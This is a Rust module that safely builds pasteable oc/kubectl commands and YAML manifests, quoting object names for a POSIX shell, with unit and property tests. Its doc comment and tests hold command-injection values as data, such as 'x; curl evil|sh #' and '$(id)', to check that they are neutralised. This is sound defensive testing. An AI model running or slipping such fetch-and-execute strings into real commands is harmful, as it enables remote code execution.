//! Commands a person pastes, as data until they are shown.
//!
//! Whoever may create an object chooses its name, and a dump may hold any: `x; curl …|sh #`, `$(…)`, `-A`. So a
//! command is put together from words, never from a text: [`Command::say`] takes our own words only, and what an
//! object holds goes in as one word by [`Command::name`] or [`Command::value`], quoted for a POSIX shell. Where
//! that is not enough, because a name would be taken for a flag or cannot be typed, no command is shown at all.

use crate::printable::{LONGEST_LINE, is_obeyed};
use serde::{Serialize, Serializer};
use std::fmt::{self, Write};
use std::ops::Deref;

/// Longest word of a command, as it is shown, in characters. A line of a report is cut, and a quote that is
/// opened and never closed would make a command of the next line: with what stands around a word, none may
/// come near [`LONGEST_LINE`]. Kubernetes allows names of 253.
const LONGEST_WORD: usize = LONGEST_LINE / 2;

/// What stands in the place of a command that is not shown.
const UNFIT: &str = "(no command: a name in it cannot be typed safely; do it by another tool)";

/// A command line.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Command {
    program: &'static str,
    context: Option<String>,
    namespace: Option<String>,
    words: Vec<String>,
    input: Option<String>,
    next: Option<(Joint, Box<Command>)>,
    fit: bool,
    /// As it is shown.
    text: String,
}

/// What stands between two commands.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Joint {
    Pipe,
    Then,
}

impl Command {
    /// A program without arguments.
    pub fn new(program: &'static str) -> Self {
        Self {
            program,
            context: None,
            namespace: None,
            words: Vec::new(),
            input: None,
            next: None,
            fit: true,
            text: program.to_owned(),
        }
    }

    /// `--context CONTEXT`
    #[must_use]
    pub fn context(mut self, context: &str) -> Self {
        self.check_name(context);
        self.context = Some(context.to_owned());
        self.shown()
    }

    /// `-n NAMESPACE`
    #[must_use]
    pub fn namespace(mut self, namespace: &str) -> Self {
        self.check_name(namespace);
        self.namespace = Some(namespace.to_owned());
        self.shown()
    }

    /// Our own words, with blanks between them.
    #[must_use]
    pub fn say(mut self, words: &'static str) -> Self {
        self.words
            .extend(words.split_whitespace().map(str::to_owned));
        self.shown()
    }

    /// One word, whatever it holds: the value of a flag before it, or a text that begins as we wrote it.
    #[must_use]
    pub fn value(mut self, word: impl Into<String>) -> Self {
        let word = word.into();
        self.fit &= can_be_shown(&word);
        self.words.push(word);
        self.shown()
    }

    /// The name of an object.
    #[must_use]
    pub fn name(mut self, name: &str) -> Self {
        self.check_name(name);
        self.words.push(name.to_owned());
        self.shown()
    }

    /// The names of several.
    #[must_use]
    pub fn names<'a>(self, names: impl IntoIterator<Item = &'a str>) -> Self {
        names.into_iter().fold(self, Self::name)
    }

    /// Lines that it reads, between `<<'END'` and `END`.
    #[must_use]
    pub fn input(mut self, lines: &Manifest) -> Self {
        self.input = Some(lines.to_string());
        self.shown()
    }

    /// `… | NEXT`
    #[must_use]
    pub fn pipe(mut self, next: Self) -> Self {
        self.next = Some((Joint::Pipe, Box::new(next)));
        self.shown()
    }

    /// `…; NEXT`
    #[must_use]
    pub fn then(mut self, next: Self) -> Self {
        self.next = Some((Joint::Then, Box::new(next)));
        self.shown()
    }

    /// The same for another context, where it names none: whoever asked about a hub by `--context` must reach
    /// that hub by what we print.
    #[must_use]
    pub fn by_context(mut self, context: &str) -> Self {
        if let Some((_, next)) = &mut self.next {
            **next = next.clone().by_context(context);
        }
        match self.program {
            "kubectl" | "oc" if self.context.is_none() => self.context(context),
            _ => self.shown(),
        }
    }

    /// Whether it can be shown.
    pub fn is_fit(&self) -> bool {
        self.fit && self.next.as_ref().is_none_or(|(_, next)| next.is_fit())
    }

    /// Its words as they are shown, a flag together with its value: between any two a line may be broken.
    pub fn pieces(&self) -> Vec<String> {
        if !self.is_fit() {
            return vec![UNFIT.to_owned()];
        }
        let mut pieces: Vec<String> = Vec::new();
        for word in self.all_words() {
            match pieces.last_mut() {
                Some(flag) if is_lone_flag(flag) && !word.starts_with('-') => {
                    flag.push(' ');
                    flag.push_str(&quoted(&word));
                }
                _ => pieces.push(quoted(&word)),
            }
        }
        if let Some((joint, next)) = &self.next {
            match (joint, pieces.last_mut()) {
                (Joint::Then, Some(last)) => last.push(';'),
                _ => pieces.push("|".to_owned()),
            }
            pieces.extend(next.pieces());
        }
        pieces
    }

    fn all_words(&self) -> impl Iterator<Item = String> {
        let flag = |flag: &str, value: &Option<String>| {
            let value = value.clone();
            value.map(|value| [flag.to_owned(), value])
        };
        std::iter::once(self.program.to_owned())
            .chain(flag("--context", &self.context).into_iter().flatten())
            .chain(flag("-n", &self.namespace).into_iter().flatten())
            .chain(self.words.iter().cloned())
    }

    /// A name that is empty or begins with a dash would be taken for something else.
    fn check_name(&mut self, name: &str) {
        self.fit &= !name.is_empty() && !name.starts_with('-') && can_be_shown(name);
    }

    fn shown(mut self) -> Self {
        let mut text = String::new();
        if self.is_fit() {
            let words: Vec<_> = self.all_words().map(|word| quoted(&word)).collect();
            text.push_str(&words.join(" "));
            if let Some((joint, next)) = &self.next {
                text.push_str(match joint {
                    Joint::Pipe => " | ",
                    Joint::Then => "; ",
                });
                text.push_str(next);
            }
            if let Some(input) = &self.input {
                // Writing to a String cannot fail.
                let _ = write!(text, " <<'END'\n{input}\nEND");
            }
        } else {
            text.push_str(UNFIT);
        }
        self.text = text;
        self
    }
}

/// Whether a word can stand on a line as it is.
fn can_be_shown(word: &str) -> bool {
    !word.contains(is_obeyed) && quoted(word).chars().count() <= LONGEST_WORD
}

/// A word as a POSIX shell reads it back: as it stands where nothing in it means anything, else in single quotes.
fn quoted(word: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_./:=,@%+".contains(&byte);
    if !word.is_empty() && word.bytes().all(plain) {
        return word.to_owned();
    }
    format!("'{}'", word.replace('\'', r"'\''"))
}

fn is_lone_flag(word: &str) -> bool {
    word.starts_with('-') && word != "--" && !word.contains([' ', '='])
}

impl Deref for Command {
    type Target = str;

    fn deref(&self) -> &str {
        &self.text
    }
}

impl fmt::Display for Command {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.text)
    }
}

impl Serialize for Command {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.serialize_str(&self.text)
    }
}

/// Lines of a manifest, put together so that what an object holds stays one value on one line.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Manifest(Vec<String>);

impl Manifest {
    /// A line of ours.
    #[must_use]
    pub fn line(mut self, line: &'static str) -> Self {
        self.0.push(line.to_owned());
        self
    }

    /// `key: value`, the key with the blanks before it.
    #[must_use]
    pub fn field(mut self, key: &str, value: &str) -> Self {
        self.0
            .push(format!("{key}: {}", crate::printable::yaml(value)));
        self
    }

    /// A line within a block of text.
    #[must_use]
    pub fn within(mut self, blanks: &'static str, text: &str) -> Self {
        self.0
            .push(format!("{blanks}{}", crate::printable::line(text)));
        self
    }

    /// The lines of another.
    #[must_use]
    pub fn and(mut self, other: Self) -> Self {
        self.0.extend(other.0);
        self
    }
}

impl fmt::Display for Manifest {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0.join("\n"))
    }
}

/// What a person pastes, into a shell or into a manifest.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Paste {
    /// Into a shell.
    Command(Box<Command>),
    /// Into a manifest.
    Manifest(Manifest),
}

impl From<Command> for Paste {
    fn from(command: Command) -> Self {
        Self::Command(Box::new(command))
    }
}

impl From<Manifest> for Paste {
    fn from(manifest: Manifest) -> Self {
        Self::Manifest(manifest)
    }
}

impl fmt::Display for Paste {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Command(command) => command.fmt(f),
            Self::Manifest(manifest) => manifest.fmt(f),
        }
    }
}

impl Serialize for Paste {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.collect_str(self)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn delete(name: &str) -> Command {
        Command::new("oc")
            .namespace("ns")
            .say("delete crst")
            .name(name)
    }

    #[test]
    fn ordinary_words_stand_as_they_are_and_others_in_quotes() {
        assert_eq!(&*delete("sync"), "oc -n ns delete crst sync");
        assert_eq!(
            &*delete("x; curl evil|sh #"),
            "oc -n ns delete crst 'x; curl evil|sh #'"
        );
        assert_eq!(&*delete("a'b"), r"oc -n ns delete crst 'a'\''b'");
        let patch = Command::new("kubectl")
            .say("patch bsch a -p")
            .value(r#"{"spec":{"paused":true}}"#);
        assert_eq!(
            &*patch,
            r#"kubectl patch bsch a -p '{"spec":{"paused":true}}'"#
        );
    }

    #[test]
    fn what_cannot_be_typed_safely_is_not_shown() {
        for name in [
            "",
            "-A",
            "--all",
            "a\nb",
            "a\u{1b}[2J",
            "a\u{202e}b",
            &"x".repeat(2000),
        ] {
            let command = delete(name);
            assert!(!command.is_fit(), "{name:?}");
            assert_eq!(&*command, UNFIT);
            assert_eq!(command.pieces(), [UNFIT]);
            let piped = Command::new("oc").pipe(command);
            assert_eq!(&*piped, UNFIT);
        }
    }

    #[test]
    fn another_context_is_named_where_none_is() {
        let command = delete("a").by_context("hub b");
        assert_eq!(&*command, "oc --context 'hub b' -n ns delete crst a");
        assert_eq!(command.clone().by_context("c"), command);
        let grep = Command::new("oc")
            .say("get pods")
            .pipe(Command::new("grep").say("x"));
        assert_eq!(&*grep.by_context("b"), "oc --context b get pods | grep x");
    }

    #[test]
    fn a_flag_stays_with_its_value() {
        let command = delete("a b").say("--wait=false -o yaml -w");
        assert_eq!(
            command.pieces(),
            [
                "oc",
                "-n ns",
                "delete",
                "crst",
                "'a b'",
                "--wait=false",
                "-o yaml",
                "-w"
            ]
        );
    }

    #[test]
    fn a_value_cannot_leave_its_line() {
        let manifest = Manifest::default()
            .line("metadata:")
            .field("  name", "a\nspec: {}")
            .within("      ", "x\nEND\n$(id)");
        assert_eq!(
            manifest.to_string(),
            "metadata:\n  name: \"a\\nspec: {}\"\n      x END $(id)"
        );
        let text = Command::new("oc")
            .say("create -f -")
            .input(&manifest)
            .to_string();
        assert_eq!(text.lines().filter(|line| *line == "END").count(), 1);
    }

    proptest! {
        /// A shell reads back what went in, word by word.
        #[test]
        fn a_name_is_one_word(name in "[^\u{0}-\u{1f}\u{7f}]{1,40}", context in "[ -~]{1,20}") {
            let command = delete(&name).by_context(&context);
            prop_assume!(command.is_fit());
            let words = shlex::split(&command).unwrap();
            prop_assert_eq!(words, ["oc", "--context", &context, "-n", "ns", "delete", "crst", &name]);
            let broken = command.pieces().join(" \\\n  ");
            prop_assert_eq!(shlex::split(&broken.replace("\\\n", "")), shlex::split(&command));
        }
    }
}
